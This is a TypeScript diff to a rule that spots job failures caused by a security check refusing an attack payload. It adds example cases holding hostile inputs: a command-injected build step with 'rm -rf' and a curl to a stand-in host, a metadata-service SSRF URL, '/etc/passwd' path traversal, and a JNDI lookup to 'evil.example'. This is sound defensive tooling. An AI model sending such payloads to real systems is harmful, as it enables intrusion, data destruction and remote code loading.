@@ -1,8 +1,8 @@
 import type { InspectedLetter } from '../../core/inspected-letter.ts';
-import { coversPointer } from '../../core/json-pointer.ts';
+import { coversPointer, type Pointer } from '../../core/json-pointer.ts';
 import { attackShapeOf, isOperator } from '../attack-shapes.ts';
 import { ATTACK_NAMES, type AttackKind } from '../attacks/attack-kind.ts';
-import { holdsCode, holdsText, namesOneThing, namesSecret } from '../attacks/key-meaning.ts';
+import { holdsCode, holdsText, namesOneThing, namesSecret, worksOnAttacks, worksOnMachines } from '../attacks/key-meaning.ts';
 import { payloadValues, type PayloadValue } from '../payload-values.ts';
 import { isRefusal, refusesAttack } from '../refusals.ts';
 import { failureFact, type Rule } from '../rule.ts';
@@ -12,6 +12,9 @@ import { namedError } from '../user-error.ts';
 const MOST_VALUES = 2000;
 /** A document is code all over; whether it is an attack is told by how it begins, and an address by the whole of it. */
 const TOLD_BY_THE_WHOLE: ReadonlySet<AttackKind> = new Set(['address', 'entity']);
+
+/** What jobs that work on machines ask for themselves. */
+const OF_MACHINES: ReadonlySet<AttackKind> = new Set(['address', 'path']);
 
 /** An attack that the schema admits and that the worker's own security check stopped. */
 export const attackRefused: Rule = {
@@ -44,6 +47,10 @@ export const attackRefused: Rule = {
       { shows: 'a file of a neighbouring folder', payload: { key: '../../shared/logo.png' }, stack: 'Error: Path escapes the upload directory' },
       { shows: 'an address of several lines', payload: { address: 'Quill & Sons\r\nAttn: Nora' }, stack: 'TypeError [ERR_INVALID_CHAR]: Invalid character in header content ["X-Address"]' },
       { shows: 'the stored condition of a search', payload: { filter: { status: { $ne: null } } }, schema: 'absent', stack: 'CastError: Cast to string failed for value "x" (type Object) at path "filter" for model "Search"' },
+      { shows: 'a command of a build', name: 'run-step', payload: { command: 'npm ci; rm -rf dist && curl https://files.example/x' }, stack: 'Error: Shell command not allowed' },
+      { shows: 'a machine that asks for its own name', name: 'read-instance-metadata', payload: { url: 'http://169.254.169.254/latest/meta-data/hostname' }, stack: 'Error: Host 169.254.169.254 is not allowed by the proxy' },
+      { shows: 'a file of a machine that is saved', name: 'backup-host', payload: { file: '/etc/passwd' }, stack: 'Error: Path is outside of the allowed folders' },
+      { shows: 'what a trap has caught', queue: 'honeypot', payload: { sample: '${jndi:ldap://evil.example/a}' }, stack: 'Error: Lookup expressions are not allowed' },
       { shows: 'another failure of a letter with an attack in it', payload: { key: '../../../etc/passwd' }, stack: 'Error: read ECONNRESET' },
       { shows: 'a refusal that only quotes the attack', payload: { key: '../../../etc/passwd' }, stack: 'Error: no worker for "path traversal is not allowed"' },
       { shows: 'an error that the user knows', payload: { url: 'http://169.254.169.254/' }, stack: 'HostRefused: Refusing to call link-local address 169.254.169.254', errors: { HostRefused: 'defect' } },
@@ -66,21 +73,27 @@ export const attackRefused: Rule = {
 };
 
 function findAttack({ letter, jobType, failure }: InspectedLetter): { readonly kind: AttackKind; readonly pointer: string } | undefined {
-  if (letter.payload === undefined) return undefined;
+  if (letter.payload === undefined || worksOnAttacks(letter.name, letter.queue)) return undefined;
+  const onMachines = worksOnMachines(letter.name, letter.queue);
   let looked = 0;
   for (const value of payloadValues(letter.payload)) {
     looked += 1;
     if (looked > MOST_VALUES) return undefined;
     const kind = kindOf(value);
-    if (kind === undefined || !refusesAttack(failure, kind)) continue;
+    if (kind === undefined || !refusesAttack(failure, kind) || (onMachines && OF_MACHINES.has(kind))) continue;
     const pointer = value.pointer();
-    if (!jobType.freeText.some((pattern) => coversPointer(pattern, pointer))) return { kind, pointer };
+    if (!isContent(kind, value.key, pointer) && !jobType.freeText.some((pattern) => coversPointer(pattern, pointer))) return { kind, pointer };
   }
   return undefined;
 }
 
 function kindOf({ key, value }: PayloadValue): AttackKind | undefined {
   if (typeof value !== 'string') return namesOneThing(key) && isOperator(value, namesSecret(key)) ? 'database-operator' : undefined;
-  const kind = attackShapeOf(value);
-  return kind === undefined || TOLD_BY_THE_WHOLE.has(kind) || !(holdsCode(key) || holdsText(key)) ? kind : undefined;
+  return attackShapeOf(value);
 }
+
+/** True where the attack may be what the member is for. */
+function isContent(kind: AttackKind, key: string, pointer: Pointer): boolean {
+  return !TOLD_BY_THE_WHOLE.has(kind) && (holdsCode(pointer) || holdsText(key));
+}
+
